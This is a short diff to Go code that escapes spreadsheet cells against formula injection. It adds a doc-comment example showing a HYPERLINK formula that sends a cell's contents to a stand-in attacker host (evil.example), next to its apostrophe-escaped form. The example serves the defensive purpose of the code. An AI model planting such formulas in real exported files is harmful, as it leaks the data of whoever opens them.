@@ -181,6 +181,9 @@ func (t *tableForm) row(cells []string) ([]byte, error) {
 // inert returns a cell that no spreadsheet takes for a formula: one that begins
 // like a formula gets an apostrophe before it, as OWASP advises. What a page says
 // would otherwise run in the hands of whoever opens the table.
+//
+//	=HYPERLINK("https://evil.example/?"&A1)  →  '=HYPERLINK("https://evil.example/?"&A1)
+//	- and that was all                       →  '- and that was all
 func inert(cell string) string {
 	// Spreadsheets pass over white space before a formula; tabs and returns begin one
 	// themselves (OWASP).
